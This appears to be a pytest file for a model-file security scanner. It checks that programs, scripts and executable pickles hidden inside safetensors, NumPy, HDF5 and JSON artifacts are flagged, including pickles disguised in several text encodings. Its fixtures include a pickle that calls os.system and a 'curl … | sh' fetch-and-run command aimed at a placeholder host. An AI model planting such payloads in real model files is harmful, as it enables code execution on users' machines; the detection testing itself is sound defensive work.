"""Tensors and texts of models that are programs, scripts or pickles."""

from __future__ import annotations

import base64
import gzip
import io
import json
import os
import pickle
import struct
import zlib

import h5py
import numpy as np
import pytest

from modelwarden.artifacts import examine
from modelwarden.core import Severity
from modelwarden.formats import Limits, Source


class _Call:
    def __reduce__(self) -> tuple[object, tuple[str]]:
        return os.system, ("true",)


PICKLE = pickle.dumps(_Call(), 4)
ELF = b"\x7fELF\x02\x01\x01" + bytes(9) + struct.pack("<HH", 2, 62) + bytes(4076)
PE = (b"MZ" + bytes(58) + struct.pack("<I", 128) + bytes(64) + b"PE\0\0").ljust(4096, b"\0")
MACHO = struct.pack("<II", 0xFEEDFACF, 0x01000007).ljust(4096, b"\0")
SCRIPT = b"#!/bin/sh\ncurl -s http://e.invalid/x | sh\n"
CODE = b"import os\nos.system('curl -s http://e.invalid/x | sh')\n"
PROGRAMS = {"elf": ELF, "pe": PE, "macho": MACHO}
LETTERS = {
    "base64": base64.b64encode(PICKLE),
    "hex": PICKLE.hex().encode(),
    "base85": base64.b85encode(PICKLE),
    "ascii85": base64.a85encode(PICKLE),
    "adobe": base64.a85encode(PICKLE, adobe=True),
    "base85 of zlib": base64.b85encode(zlib.compress(PICKLE)),
    "base32": base64.b32encode(PICKLE),
    "escapes": repr(PICKLE.replace(b"\x8c", b"\x8c")).encode(),
}


def safetensors(dtype: str, shape: list[int], data: bytes, **metadata: str) -> bytes:
    header = {
        "__metadata__": metadata,
        "w": {"dtype": dtype, "shape": shape, "data_offsets": [0, len(data)]},
    }
    text = json.dumps(header).encode()
    return struct.pack("<Q", len(text)) + text + data


def npy(array: object) -> bytes:
    out = io.BytesIO()
    np.save(out, np.asarray(array))
    return out.getvalue()


def npz(array: object) -> bytes:
    out = io.BytesIO()
    np.savez_compressed(out, w=np.zeros(4), x=np.asarray(array))
    return out.getvalue()


def hdf5(data: object) -> bytes:
    out = io.BytesIO()
    with h5py.File(out, "w") as file:
        file.create_dataset("w", data=data)
    return out.getvalue()


ORDER = [Severity.INFO, Severity.LOW, Severity.MEDIUM, Severity.HIGH, Severity.CRITICAL]
NONE, MEDIUM, HIGH = -1, 2, 3


def worst(name: str, data: bytes) -> int:
    found = examine(Source(name, data), Limits()).findings
    return max((ORDER.index(f.severity) for f in found), default=NONE)


@pytest.mark.parametrize("kind", PROGRAMS)
def test_a_tensor_that_is_a_program_is_told(kind: str):
    data = PROGRAMS[kind]
    array = np.frombuffer(data, np.uint8)
    files = {
        "a.safetensors": safetensors("F16", [2048], data),
        "b.safetensors": safetensors("U8", [4096], data),
        "a.npy": npy(array),
        "b.npy": npy(array.view(np.float32)),
        "a.npz": npz(array),
        "a.h5": hdf5(array),
        "b.h5": hdf5(array.view(np.float32)),
    }

    told = {name: worst(name, made) for name, made in files.items()}

    assert told == dict.fromkeys(files, MEDIUM)


@pytest.mark.parametrize("data", [SCRIPT, CODE, PICKLE], ids=["script", "python", "pickle"])
def test_a_tensor_of_bytes_that_is_run_elsewhere_is_told(data: bytes):
    array = np.frombuffer(data, np.uint8)
    files = {
        "a.safetensors": safetensors("U8", [len(data)], data),
        "a.npy": npy(array),
        "a.npz": npz(array),
        "a.h5": hdf5(array),
    }

    told = {name: worst(name, made) for name, made in files.items()}

    assert {name for name, one in told.items() if one < HIGH} == set()


@pytest.mark.parametrize("kind", LETTERS)
def test_a_pickle_in_letters_is_found(kind: str):
    text = LETTERS[kind].decode()
    files = {
        "a.safetensors": safetensors("U8", [8], bytes(8), state=text),
        "a.json": json.dumps({"state": text}).encode(),
        "a.npy": npy(text),
        "b.npy": npy(text.encode()),
        "a.npz": npz([text]),
        "a.h5": hdf5(text),
    }

    told = {name: worst(name, made) for name, made in files.items()}

    assert {name for name, one in told.items() if one < HIGH} == set()


def test_a_compressed_pickle_among_tensors_is_found():
    data = gzip.compress(PICKLE)
    files = {
        "a.safetensors": safetensors("U8", [len(data)], data),
        "a.npz": npz(np.frombuffer(data, np.uint8)),
        "b.npy": npy(np.frombuffer(zlib.compress(PICKLE), np.uint8)),
    }

    told = {name: worst(name, made) for name, made in files.items()}

    assert {name for name, one in told.items() if one < HIGH} == set()


def test_a_pickle_in_the_json_of_metadata_is_found():
    state = json.dumps({"state": base64.b64encode(PICKLE).decode()})

    assert worst("a.safetensors", safetensors("U8", [8], bytes(8), cfg=state)) >= HIGH


def test_numbers_and_texts_are_quiet():
    rng = np.random.default_rng(3)
    files = {
        "a.safetensors": safetensors("U8", [4096], rng.bytes(4096), sha=rng.bytes(32).hex()),
        "b.safetensors": safetensors("U8", [40], b"the import of os.system, in words; eval("),
        "a.npy": npy(rng.integers(0, 255, 4096, dtype=np.uint8)),
        "b.npy": npy(["fCab", "import", "<~9jqo^~>", "80020000000000000000000000000000"]),
        "a.npz": npz(rng.normal(size=64)),
        "a.h5": hdf5(rng.integers(0, 255, 4096, dtype=np.uint8)),
        "a.json": json.dumps({"a": "fC" + "x" * 40, "b": "8004" + "00" * 30}).encode(),
        "mz.npy": npy(np.frombuffer(b"MZ" + bytes(4094), np.uint8)),
    }

    told = {name: worst(name, made) for name, made in files.items()}

    assert {name: one for name, one in told.items() if one >= MEDIUM} == {}
